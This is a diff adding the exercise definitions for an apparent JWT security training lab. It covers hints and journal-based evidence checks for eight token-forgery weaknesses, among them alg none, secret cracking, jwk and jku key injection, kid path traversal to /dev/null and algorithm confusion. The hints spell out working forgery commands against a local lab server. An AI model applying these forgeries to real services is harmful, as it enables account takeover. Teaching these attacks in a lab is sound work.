@@ -1,0 +1,141 @@
+"""The lab's exercises as data: for each lab, the goal, the tools, graded hints, and the evidence
+in the server's journal that the lab's weakness (and nothing else) let the request through.
+
+Hints are read one at a time, each a step closer; `{url}` is the run's server. A hint that
+states a fact carries a [^source] key. The full attack is `authcli lab NAME` (--solution).
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from typing import Callable
+
+from authcli.events import KeyChosen, TokenChecked
+from authcli.server.journal import RequestRecord
+
+LOGIN = ("curl -s -X POST {url}/login -H 'Content-Type: application/json' "
+         "-d '{{\"email\":\"eve@example.com\",\"password\":\"eve\"}}'")
+SEND = "Send it: curl -s -H \"Authorization: Bearer $FORGED\" {url}/admin"
+SUB = "--set sub='\"1\"'"  # sub is a StringOrURI: the JSON string "1", never the number 1
+# The server's public JWK written as PEM (SubjectPublicKeyInfo, final newline kept), with the
+# PyJWT and cryptography that authcli installs.
+PEM = ("python3 -c 'import json,sys,jwt; from cryptography.hazmat.primitives import serialization as s; "
+       "k=jwt.algorithms.RSAAlgorithm.from_jwk(json.load(sys.stdin)[\"keys\"][0]); "
+       "sys.stdout.buffer.write(k.public_bytes(s.Encoding.PEM, s.PublicFormat.SubjectPublicKeyInfo))'")
+DECODE = ("Log in as yourself (" + LOGIN + ") and decode the token it answers: authcli decode $TOKEN "
+          "(without a key it shows what the token claims, unverified).")
+
+
+@dataclass(frozen=True)
+class Exercise:
+    """One lab as an exercise: what to do, what to use, and how the journal tells it was done."""
+
+    name: str
+    goal: str
+    tools: tuple[str, ...]
+    hints: tuple[str, ...]
+    evidence: Callable[[RequestRecord], bool]  # the lab's weakness let this /admin request through
+    leaked: bool = False                       # the student is given an old token of user 1's
+
+
+def checked(record: RequestRecord) -> TokenChecked | None:
+    found = [e for e in record.events if isinstance(e, TokenChecked) and e.payload is not None]
+    return found[-1] if found else None
+
+
+def _skipped(name: str) -> Callable[[RequestRecord], bool]:
+    """The weak server marked check `name` as not done (ok None) and still answered."""
+    def evidence(record: RequestRecord) -> bool:
+        event = checked(record)
+        return event is not None and any(c.name == name and c.ok is None for c in event.checks)
+    return evidence
+
+
+def _alg_none(record: RequestRecord) -> bool:
+    event = checked(record)
+    alg = (event.header or {}).get("alg") if event is not None else None
+    return isinstance(alg, str) and alg.lower() == "none"
+
+
+def _foreign_key(record: RequestRecord) -> bool:
+    """The weak server verified with a key the token led it to, not its own (KeyChosen)."""
+    return any(isinstance(e, KeyChosen) for e in record.events)
+
+
+def _own_key(record: RequestRecord) -> bool:
+    """Every check passed with the server's own (guessable) secret. User 1 cannot log in (its
+    password is random each run, and the run refuses user 1's login tokens by jti), so a token
+    for user 1 that passes was signed by someone who found the secret."""
+    event = checked(record)
+    return event is not None and all(c.ok is not False for c in event.checks) and not _foreign_key(record)
+
+
+JWT_TOOLS = ("curl", "authcli decode", "authcli tamper")
+
+EXERCISES: dict[str, Exercise] = {e.name: e for e in [
+    Exercise("no-verify", "Get this run's flag from GET /admin, which answers only user 1.", JWT_TOOLS, (
+        DECODE + " The claim that says who you are is sub; /admin wants user 1.",
+        "This server reads the claims without checking the signature: a token whose payload was "
+        "changed after signing is still believed [^portswigger-jwt].",
+        f"authcli tamper $TOKEN {SUB} changes sub and keeps the old signature; sub stays a string, "
+        "as RFC 7519 asks [^rfc7519-4.1].",
+        SEND), _skipped("signature")),
+    Exercise("alg-none", "Get this run's flag from GET /admin, which answers only user 1.", JWT_TOOLS, (
+        DECODE + " Its header's alg says how it was signed.",
+        "A JWT may be unsecured: alg none and an empty signature [^rfc7518-3.6]. A verifier that lets "
+        "the token choose the algorithm accepts one [^rfc8725-3.1].",
+        f"authcli tamper $TOKEN {SUB} --alg none writes alg none and drops the signature, keeping the "
+        "other claims (exp, aud) as they were.",
+        SEND), _alg_none),
+    Exercise("weak-secret", "Get this run's flag from GET /admin, which answers only user 1.",
+             (*JWT_TOOLS, "authcli crack"), (
+        DECODE + " It is HS256: one secret both signs and checks it.",
+        "An HMAC signature can be checked against guessed secrets offline, from one token, without "
+        "asking the server; a secret a person chose is in someone's wordlist [^rfc8725-3.5].",
+        "authcli crack $TOKEN tries a wordlist of secrets people really use.",
+        f"authcli tamper $TOKEN {SUB} --secret THE_SECRET signs a token for user 1 with it. " + SEND),
+        _own_key),
+    Exercise("jwk-header", "Get this run's flag from GET /admin, which answers only user 1.", JWT_TOOLS, (
+        DECODE + " It is RS256: signed with the server's private key, which you do not have.",
+        "A server that takes the verifying key from the token's own jwk header accepts a token signed "
+        "with any key the attacker made [^portswigger-jwt].",
+        f"authcli tamper $TOKEN {SUB} --embed-jwk makes a key pair, signs with its private half and "
+        "puts the public half in the header's jwk.",
+        SEND), _foreign_key),
+    Exercise("jku-header", "Get this run's flag from GET /admin, which answers only user 1.",
+             (*JWT_TOOLS, "python3 -m http.server"), (
+        DECODE + " It is RS256: signed with the server's private key, which you do not have.",
+        "A jku header names a URL that holds a JWK Set [^rfc7517-5]; a server that fetches keys from "
+        "whatever URL the token names verifies with the attacker's key [^portswigger-jwt].",
+        f"authcli tamper $TOKEN {SUB} --jku http://127.0.0.1:8000/jwks.json signs with a new key and "
+        "writes its key set to jwks.json. This lab server fetches from loopback only.",
+        "In that folder, serve it: python3 -m http.server 8000 --bind 127.0.0.1. " + SEND), _foreign_key),
+    Exercise("kid-path", "Get this run's flag from GET /admin, which answers only user 1.", JWT_TOOLS, (
+        DECODE + " Its header's kid names the key the server should use.",
+        "kid is only a hint for choosing a key [^rfc7515-4.1.4]; this server joins it to its key "
+        "folder and reads that file as the HMAC secret. /dev/null is on every Linux machine and reads "
+        "as zero bytes [^portswigger-jwt].",
+        f"authcli tamper $TOKEN {SUB} --header kid=../../../../../../../../dev/null --secret '' "
+        "signs with the empty key (extra ../ are harmless: .. at / stays at /).",
+        SEND), _foreign_key),
+    Exercise("alg-confusion", "Get this run's flag from GET /admin, which answers only user 1.", JWT_TOOLS, (
+        DECODE + " It is RS256, and the server publishes its public key at {url}/.well-known/jwks.json: "
+        "anyone may have it [^rfc7517-5].",
+        "A verifier that lets the token's alg decide checks an HS256 token's HMAC with the key bytes "
+        "it holds, here the public key's PEM, which you have too [^rfc8725-3.1].",
+        "Write the key as PEM: curl -s {url}/.well-known/jwks.json | " + PEM + " > public.pem",
+        f"authcli tamper $TOKEN {SUB} --alg HS256 --secret-file public.pem signs with those exact "
+        "bytes (final newline kept). " + SEND), _foreign_key),
+    Exercise("no-exp", "Get this run's flag from GET /admin with the token of user 1's found in an "
+             "old log file (shown below).", ("curl", "authcli decode"), (
+        "Decode the old token: authcli decode $OLD. Look at exp, and at today's date.",
+        "exp is the time after which a token must not be accepted [^rfc7519-4.1.4]; this server "
+        "never looks at it.",
+        "Send it as it is: curl -s -H \"Authorization: Bearer $OLD\" {url}/admin"),
+        _skipped("exp"), leaked=True),
+]}
+
+
+def hint(exercise: Exercise, number: int, url: str = "http://127.0.0.1:PORT") -> str:
+    """Hint `number` (from 1), with the run's URL in place of {url}."""
+    return exercise.hints[number - 1].format(url=url)
